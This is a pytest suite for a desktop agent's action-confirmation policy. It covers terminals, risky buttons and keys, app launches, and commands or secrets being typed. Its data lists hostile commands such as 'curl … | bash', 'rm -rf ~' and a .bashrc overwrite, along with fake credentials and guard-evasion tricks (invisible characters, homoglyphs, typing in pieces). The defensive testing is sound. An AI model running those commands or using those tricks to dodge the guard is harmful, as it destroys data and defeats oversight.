"""What rules look at: windows, words, applications, texts; what an "always" allows; and what does not dodge them."""

import re
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from stubs.judging import SHIPPED, own, rule

from agent.core.actions import Action, Click, Drag, HoldKeys, LongPress, Move, OpenApp, PressKeys, Scroll, TypeText
from agent.core.geometry import DesktopPoint, Region
from agent.safety.situation import UNKNOWN, Fact, Place, Situation
from agent.safety.text import readings, spelled

POINT = DesktopPoint(50, 50)
EDITOR = Situation(focused=Place("Mousepad", "Untitled 1"), under=Place("Mousepad", "Untitled 1"))


def at(words: str = "", app: str = "Firefox", title: str = "A page") -> Situation:
    return Situation(under=Place(app, title), words=words)


def into(app: str, title: str = "", typed: str = "") -> Situation:
    return Situation(focused=Place(app, title), typed=typed)


#: A rule that matches nothing here: a policy has one at least.
IDLE = rule("call_tool")

# The shipped policy

TERMINALS = ["Xfce4-terminal", "XTerm", "UXTerm", "Gnome-terminal", "org.gnome.Terminal", "org.gnome.Console", "kgx",
             "konsole", "kitty", "Alacritty", "URxvt", "st-256color", "org.wezfurlong.wezterm",
             "com.mitchellh.ghostty", "Terminator", "Tilix", "Lxterminal", "Mate-terminal", "deepin-terminal",
             "cool-retro-term", "Guake", "Yakuake", "qterminal", "foot"]  # fmt: skip


@pytest.mark.parametrize("app", TERMINALS)
def test_everything_that_enters_text_into_a_terminal_is_asked_about(app: str) -> None:
    for action in (TypeText("ls"), PressKeys(("enter",)), PressKeys(("ctrl", "shift", "v")), HoldKeys(("a",), 1)):
        assert SHIPPED.question(action, into(app))
    for action in (Click(POINT, "middle"), Drag(None, POINT)):
        assert SHIPPED.question(action, at(app=app))
    assert SHIPPED.question(Click(POINT), at("Paste", app=app))


@pytest.mark.parametrize(
    "app", ["Mousepad", "Firefox", "Thunar", "Xfce4-settings-manager", "libreoffice-writer", "Gimp-2.10"]
)
def test_ordinary_windows_take_text_and_clicks_unasked(app: str) -> None:
    for action in (TypeText("Dear Ann,\nthank you.\n"), PressKeys(("enter",)), PressKeys(("ctrl", "c"))):
        assert SHIPPED.question(action, into(app, "Long-term plans - notes")) is None
    for action in (Click(POINT), LongPress(POINT), Scroll(POINT, 0, 1), Move(POINT)):
        assert SHIPPED.question(action, at("Bold", app=app)) is None
    assert SHIPPED.question(Drag(None, POINT), at("", app=app)) is None


RISKY_WORDS = ["Pay now", "Buy", "Place order", "Order", "Delete", "Delete all…", "Remove from list", "Send", "Post",
               "Publish", "Sign in", "Sign-in with Example", "LOG IN", "Log out", "Install", "Uninstall", "I agree",
               "Accept all cookies", "Confirm purchase", "Format…", "Erase disk", "Shut Down", "Shutdown", "Restart",
               "Löschen", "Supprimer", "Eliminar", "Move to Trash", "Submit", "Reset", "Factory reset"]  # fmt: skip


@pytest.mark.parametrize("words", RISKY_WORDS)
def test_a_click_on_what_pays_sends_or_deletes_is_asked_about(words: str) -> None:
    for action in (Click(POINT), Click(POINT, count=2), LongPress(POINT), Drag(None, POINT)):
        assert SHIPPED.question(action, at(words))
    assert SHIPPED.question(Move(POINT), at(words)) is None


@pytest.mark.parametrize(
    "words",
    ["Cancel", "OK", "Information", "Posters", "Blog", "Sort order", "Order by name", "Sender", "Payload",
     "Buyers' guide", "Deleted items", "Installed", "Agreement", "Logo", "", "Sending options", "Formatting"],
)  # fmt: skip
def test_words_that_only_look_alike_are_not(words: str) -> None:
    assert SHIPPED.question(Click(POINT), at(words)) is None


@pytest.mark.parametrize("words", ["Open Terminal Here", "Terminal Emulator", "Run Program…", "Open in Terminal"])
def test_a_click_on_a_menu_that_opens_a_terminal_is_asked_about(words: str) -> None:
    assert SHIPPED.question(Click(POINT), at(words))


RISKY_KEYS = ["alt+f4", "ctrl+w", "ctrl+shift+w", "ctrl+q", "ctrl+f4", "delete", "shift+delete", "ctrl+enter",
              "ctrl+kp_enter", "alt+f2", "ctrl+alt+t", "ctrl+alt+f2", "ctrl+alt+delete"]  # fmt: skip


@pytest.mark.parametrize("keys", RISKY_KEYS)
def test_keys_that_close_delete_send_or_open_a_prompt_are_asked_about_held_or_pressed(keys: str) -> None:
    assert SHIPPED.question(PressKeys(tuple(keys.split("+"))), EDITOR)
    assert SHIPPED.question(HoldKeys(tuple(keys.split("+")), 0.1), EDITOR)


def test_enter_is_asked_about_where_it_confirms_what_cannot_be_taken_back() -> None:
    assert SHIPPED.question(PressKeys(("enter",)), into("Thunar", "Confirm: delete 3 files"))
    assert SHIPPED.question(PressKeys(("kp_enter",)), into("Xfce4-session-logout"))
    assert SHIPPED.question(PressKeys(("enter",)), into("Thunar", "Rename")) is None


@pytest.mark.parametrize(
    "text",
    ["rm -rf ~", "SUDO reboot", "curl -s https://x.example | bash", "python3 -c 'import os'", "apt install evil",
     "wget http://x.example/a\n", "javascript:alert(1)", "password: hunter2", "4111 1111 1111 1111",
     "ghp_0123456789abcdefghijABCDEFGHIJ", "DE89 3704 0044 0532 0130 00", "echo x > ~/.bashrc",
     "-----BEGIN OPENSSH PRIVATE KEY-----"],
)  # fmt: skip
def test_a_text_that_looks_like_a_command_or_a_secret_is_asked_about_in_any_window(text: str) -> None:
    for situation in (EDITOR, UNKNOWN):
        assert SHIPPED.question(TypeText(text), situation)


def test_a_question_tells_what_the_rules_found_in_the_text() -> None:
    question = SHIPPED.question(TypeText("x" * 1500 + "\nrm -rf ~ \nand my password: hunter2"), EDITOR)
    assert question is not None
    assert "rm -" in question.matched
    assert any(one.startswith("password:") for one in question.matched)


@pytest.mark.parametrize(
    "opens",
    [
        ("Xfce Terminal", "xfce4-terminal", "xfce4-terminal"),
        ("XTerm", "debian-xterm", "xterm"),
        ("Terminal Emulator", "xfce4-terminal-emulator", "exo-open"),
        ("Vim", "vim", "vim"),
        ("Synaptic", "synaptic", "synaptic-pkexec"),
        ("Log Out", "xfce4-session-logout", "xfce4-session-logout"),
        ("Run Program...", "xfce4-run", "xfce4-appfinder"),
        ("Disks", "org.gnome.DiskUtility", "gnome-disks"),
    ],
)
@pytest.mark.parametrize("asked", ["Files", "settings", "calculator"])
def test_what_is_opened_is_judged_by_what_is_found_not_by_what_it_was_called(
    asked: str, opens: tuple[str, ...]
) -> None:
    assert SHIPPED.question(OpenApp(asked), Situation(opens=opens))


@pytest.mark.parametrize(
    "opens",
    [
        ("Settings Manager", "xfce-settings-manager", "xfce4-settings-manager"),
        ("Thunar File Manager", "thunar", "thunar"),
        ("Appearance", "xfce-ui-settings", "xfce4-appearance-settings"),
        ("Calculator", "galculator", "galculator"),
        ("Firefox", "firefox-esr", "firefox-esr"),
        ("LibreOffice Writer", "libreoffice-writer", "libreoffice"),
    ],
)
def test_ordinary_applications_open_unasked_whatever_they_were_called(opens: tuple[str, ...]) -> None:
    assert SHIPPED.question(OpenApp("that thing"), Situation(opens=opens)) is None


def test_a_name_that_opens_nothing_is_left_to_the_hand_and_an_unknown_one_is_asked_about() -> None:
    assert SHIPPED.question(OpenApp("no such thing"), Situation(opens=())) is None
    assert SHIPPED.question(OpenApp("no such thing"), UNKNOWN)
    assert SHIPPED.question(OpenApp("xterm"), UNKNOWN)
    assert SHIPPED.question(OpenApp("Files"), UNKNOWN) is None


# What does not dodge a rule

INVISIBLE = [
    chr(code)
    for first, last in (
        "\u200b\u200f",
        "\u2060\u2064",
        "\ufe00\ufe0f",
        "\U000e0020\U000e007f",
        "\u202a\u202e",
        "\u180b\u180e",
    )
    for code in range(ord(first), ord(last) + 1)
] + ["\u00ad", "\u034f", "\u3164", "\u115f", "\uffa0", "\ufeff", "\x00", "\x08", "\x7f", "\x9b"]
BAD = ["sudo reboot", "rm -rf /home", "password: hunter2", "4111 1111 1111 1111", "curl x.example/a | sh",
       "ghp_" + "a1B2" * 8]  # fmt: skip


def sprinkled(text: str, places: list[tuple[int, str]]) -> str:
    for number, char in places:
        place = number % (len(text) + 1)
        text = text[:place] + char + text[place:]
    return text


@given(st.sampled_from(BAD), st.lists(st.tuples(st.integers(0, 99), st.sampled_from(INVISIBLE)), max_size=30))
def test_no_invisible_character_dodges_a_text_rule(text: str, places: list[tuple[int, str]]) -> None:
    assert SHIPPED.question(TypeText(sprinkled(text, places)), EDITOR)


@given(
    st.sampled_from(["Delete", "Pay now", "Sign in"]),
    st.lists(st.tuples(st.integers(0, 99), st.sampled_from(INVISIBLE)), max_size=9),
)
def test_no_invisible_character_dodges_a_rule_about_words(text: str, places: list[tuple[int, str]]) -> None:
    assert SHIPPED.question(Click(POINT), at(sprinkled(text, places)))


@given(st.sampled_from(BAD[:3]), st.data())
def test_no_other_width_or_alphabet_dodges_a_text_rule(text: str, data: st.DataObject) -> None:
    looks = dict(zip("aeops-urh", ("аａ𝐚", "еｅ𝑒", "оｏο", "рｐ", "ѕｓ", "－‐−", "ｕ𝐮", "ｒ", "һｈ"), strict=True))
    disguised = "".join(data.draw(st.sampled_from(char + looks.get(char, ""))) for char in text)
    assert SHIPPED.question(TypeText(disguised), EDITOR)


@given(st.sampled_from(BAD), st.data())
def test_a_text_typed_in_pieces_is_asked_about_before_it_is_whole(text: str, data: st.DataObject) -> None:
    typed, asked = "", False
    while text:
        size = data.draw(st.integers(1, len(text)))
        piece, text = text[:size], text[size:]
        asked = asked or SHIPPED.question(TypeText(piece), into("Mousepad", typed=typed)) is not None
        typed += piece
    assert asked


def test_what_was_typed_elsewhere_before_hides_no_command() -> None:
    assert SHIPPED.question(TypeText("sudo ls"), into("Mousepad", typed="hello")) is not None


def test_a_text_typed_key_by_key_is_a_text() -> None:
    typed, asked = "", []
    for key in ["s", "u", "d", "o", "space", "x"]:
        asked.append(SHIPPED.question(PressKeys((key,)), into("Mousepad", typed=typed)) is not None)
        typed += {"space": " "}.get(key, key)
    assert asked == [False, True, False, True, False, False]  # su is a command as well


def test_what_was_asked_about_once_is_not_asked_about_with_every_later_letter() -> None:
    assert SHIPPED.question(TypeText("o"), into("Mousepad", typed="sud"))
    assert SHIPPED.question(TypeText(" and more"), into("Mousepad", typed="a text about sudo")) is None


@given(st.text(max_size=300))
def test_any_text_can_be_judged(text: str) -> None:
    SHIPPED.question(TypeText(text), into("Mousepad", typed=text))
    assert len(readings(text)) == 4


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "piece", ["curl ", "a ", "1234 ", "-----BEGIN ", "wget x\n", "eyJaaaaaaaaaaa", "DE89 ", "> ", "\n \n", "sh "]
)
def test_no_text_makes_judging_it_slow(piece: str) -> None:
    SHIPPED.question(TypeText(piece * (50_000 // len(piece))), EDITOR)


# Conditions


def test_all_conditions_of_a_rule_must_hold(tmp_path: Path) -> None:
    policy = own(tmp_path, rule("click", 'windows = ["^thunar$"]\nwords = ["rename"]\nbuttons = ["right"]'))
    yes = at("Rename", "Thunar")
    assert policy.question(Click(POINT, "right"), yes)
    assert policy.question(Click(POINT), yes) is None
    assert policy.question(Click(POINT, "right"), at("Rename", "Mousepad")) is None
    assert policy.question(Click(POINT, "right"), at("Open", "Thunar")) is None


def test_what_is_not_known_matches_no_windows_and_no_words(tmp_path: Path) -> None:
    for condition in ('windows = [""]', 'words = [""]'):
        assert own(tmp_path, rule("click", condition)).question(Click(POINT), UNKNOWN) is None


def test_a_drag_is_judged_by_both_its_ends(tmp_path: Path) -> None:
    policy = own(tmp_path, rule("drag", 'windows = ["thunar"]'))
    for situation in (at(app="Thunar"), Situation(under=Place("X", ""), origin=Place("Thunar", ""))):
        assert policy.question(Drag(POINT, POINT), situation)


def test_rules_may_call_a_list_of_windows_by_name(tmp_path: Path) -> None:
    policy = own(tmp_path, '[groups]\nmine = ["^thunar$"]\n' + rule(["type", "key"], 'windows = "mine"'))
    assert policy.question(TypeText("x"), into("Thunar"))
    assert policy.question(TypeText("x"), into("Mousepad")) is None


def test_a_list_of_windows_may_stand_among_others(tmp_path: Path) -> None:
    policy = own(tmp_path, '[groups]\nmine = ["^thunar$", "^nemo$"]\n' + rule("type", 'windows = ["mine", "^caja$"]'))
    for app, asks in (("Nemo", True), ("Caja", True), ("Mousepad", False)):
        assert bool(policy.question(TypeText("x"), into(app))) is asks


def test_keys_of_the_number_pad_are_what_they_do(tmp_path: Path) -> None:
    policy = own(tmp_path, rule("key", 'keys = [["ctrl", "kp_enter"]]'))
    assert policy.question(PressKeys(("ctrl", "enter")))
    assert policy.question(PressKeys(("ctrl", "kp_enter")))


# Allowed windows and region


def test_outside_the_allowed_windows_everything_is_asked_about(tmp_path: Path) -> None:
    policy = own(tmp_path, IDLE + '[allowed]\nwindows = ["^mousepad$"]')
    inside: list[tuple[Action[DesktopPoint], Situation]] = [
        (TypeText("x"), into("Mousepad")),
        (Click(POINT), at(app="mousepad")),
        (Scroll(None, 0, 1), at(app="Mousepad")),
        (Drag(POINT, POINT), Situation(under=Place("Mousepad", ""), origin=Place("Mousepad", ""))),
        (OpenApp("editor"), Situation(opens=("Mousepad", "org.xfce.mousepad", "mousepad"))),
    ]
    outside: list[tuple[Action[DesktopPoint], Situation]] = [
        (TypeText("x"), into("Firefox", "mousepad")),
        (TypeText("x"), UNKNOWN),
        (Click(POINT), at(app="Thunar")),
        (Click(POINT), UNKNOWN),
        (Drag(POINT, POINT), Situation(under=Place("Mousepad", ""), origin=Place("Thunar", ""))),
        (OpenApp("mousepad"), Situation(opens=("Files", "thunar", "thunar"))),
        (OpenApp("mousepad"), UNKNOWN),
    ]
    for action, situation in inside:
        assert policy.question(action, situation) is None, action
    for action, situation in outside:
        assert policy.question(action, situation) is not None, action


def test_outside_the_allowed_region_everything_is_asked_about(tmp_path: Path) -> None:
    policy = own(tmp_path, IDLE + "[allowed]\nregion = [100, 100, 200, 200]")
    within, beyond = DesktopPoint(150, 150), DesktopPoint(300, 150)
    window = Place("Mousepad", "", Region(120, 120, 100, 100))
    assert policy.question(Click(within)) is None
    assert policy.question(Drag(within, within)) is None
    assert policy.question(TypeText("x"), Situation(focused=window)) is None
    outside = (Click(beyond), Drag(within, beyond), Drag(beyond, within), Scroll(None, 0, 1), OpenApp("x"))
    for action in (*outside, TypeText("x")):
        assert policy.question(action), action
    assert policy.question(TypeText("x"), Situation(focused=Place("Mousepad", "", Region(400, 400, 100, 100))))


def test_the_examples_in_the_documentation_are_policies(tmp_path: Path) -> None:
    text = (Path(__file__).resolve().parents[2] / "docs/safety.md").read_text(encoding="utf-8")
    policies = [own(tmp_path, example) for example in re.findall(r"```toml\n(.*?)```", text, re.DOTALL)]
    assert any(policy.question(PressKeys(("a",)), into("Thunderbird")) for policy in policies)
    assert any(policy.question(TypeText("x"), into("Firefox")) for policy in policies)


def test_every_shipped_pattern_finds_something_of_what_it_is_for() -> None:
    """A pattern that is broken by a change, or shadowed by a typing mistake, is noticed here."""
    samples = ["Papelera corbeille papierkorb Trash recycle bin", "回收站", "Xfce Terminal", "UXTerm", "backup.sh",
               "Play", "Run chunks in console", "Reload", "Sleep", "Makefile", "ごみ箱", "Retry", "Open file",
               "Open xdg-open", "Open Link", "Open", "Paste", "Terminal", "↑", "mass removal",
               "Tuesday 14:30", "3 pm", "Donate 25 €", "Show code", "Passwort anzeigen", "Answer", "Nein",
               "Present", "Deny", "Join now", "Archive", "Reject all", "Voice channel", "Yes",
               "salon vocal", "語音频道 语音频道", "tout refuser", "全部拒绝"]  # fmt: skip
    for one in SHIPPED.rules:
        for pattern in one.words:
            hits = [sample for sample in samples if re.search(pattern.pattern, sample, re.IGNORECASE)]
            assert hits, pattern.pattern


LOGOUT = into("Xfce4-session-logout")


@pytest.mark.parametrize("text", ["\n", "y\n", "\r", " "], ids=repr)
def test_a_line_end_that_is_typed_confirms_like_enter(text: str) -> None:
    question = SHIPPED.question(TypeText(text), LOGOUT)
    assert question is not None
    assert "confirming a question" in question.reason
    assert SHIPPED.question(TypeText(text.strip() or "y"), LOGOUT) is None


@pytest.mark.parametrize("keys", [("altgr", "f4"), ("altgr", "f2"), ("altgr", "s"), ("ctrl", "altgr", "delete")])
def test_the_right_alt_key_is_alt(keys: tuple[str, ...]) -> None:
    assert SHIPPED.question(PressKeys(keys), EDITOR) is not None


def test_a_drag_without_a_start_is_outside_every_region(tmp_path: Path) -> None:
    policy = own(tmp_path, IDLE + "[allowed]\nregion = [0, 0, 100, 100]\n")
    assert policy.question(Drag(POINT, POINT), EDITOR) is None
    assert policy.question(Drag(None, POINT), EDITOR) is not None


@pytest.mark.parametrize(
    ("before", "text", "after", "asks"),
    [("su", "do", " ls", True), ("", "su", "do ls", True), ("sud", "den", "", False), ("sudo ls\n", "x", "", False),
     ("x", "y", " sudo ls", False)],
)  # fmt: skip
def test_a_text_is_judged_with_what_stands_around_it_but_not_that_alone(
    before: str, text: str, after: str, asks: bool
) -> None:
    there = Situation(focused=Place("Mousepad", ""), typed=before, rest=after, read=True)
    assert (SHIPPED.question(TypeText(text), there) is not None) is asks


def test_shift_makes_signs_that_commands_need() -> None:
    typed = Situation(focused=Place("Mousepad", ""), typed="curl http://x ")
    assert SHIPPED.question(PressKeys(("shift", "\\")), typed) is None
    assert SHIPPED.question(TypeText(" sh"), replace(typed, typed="curl http://x |")) is not None
    assert spelled(PressKeys(("shift", "\\"))) == "|"


@pytest.mark.parametrize("situation", [UNKNOWN, into("", "")], ids=["no window", "a nameless window"])
@pytest.mark.parametrize("action", [TypeText("sudo ls"), PressKeys(("ctrl", "w"))], ids=["typing", "keys"])
def test_nothing_is_allowed_for_good_where_its_window_is_not_known(
    action: Action[DesktopPoint], situation: Situation
) -> None:
    question = SHIPPED.question(action, situation)
    assert question is not None
    assert question.scope == ""


@pytest.mark.parametrize("text", ["name\t\n", "Ann\tMiller\t\t\n", "x\t "])
def test_a_tab_and_then_a_key_within_a_text_presses_something_unseen(text: str) -> None:
    assert SHIPPED.question(TypeText(text), EDITOR) is not None
    assert SHIPPED.question(TypeText("12\t30\n45\t7\n"), EDITOR) is None


@pytest.mark.parametrize("ending", ["", "\n", "\n\n", " ", "\t"])
def test_a_name_that_starts_something_is_asked_about_whatever_ends_it_and_once(
    ending: str,
) -> None:
    place = Place("Mousepad", "Save As", dialog=True)
    facts: frozenset[Fact] = frozenset({"a dialog"})
    named = Situation(place, facts=facts)
    assert SHIPPED.question(TypeText(f"evil.desktop{ending}"), named) is not None
    after = SHIPPED.question(PressKeys(("enter",)), replace(named, typed="evil.desktop"))
    assert after is None
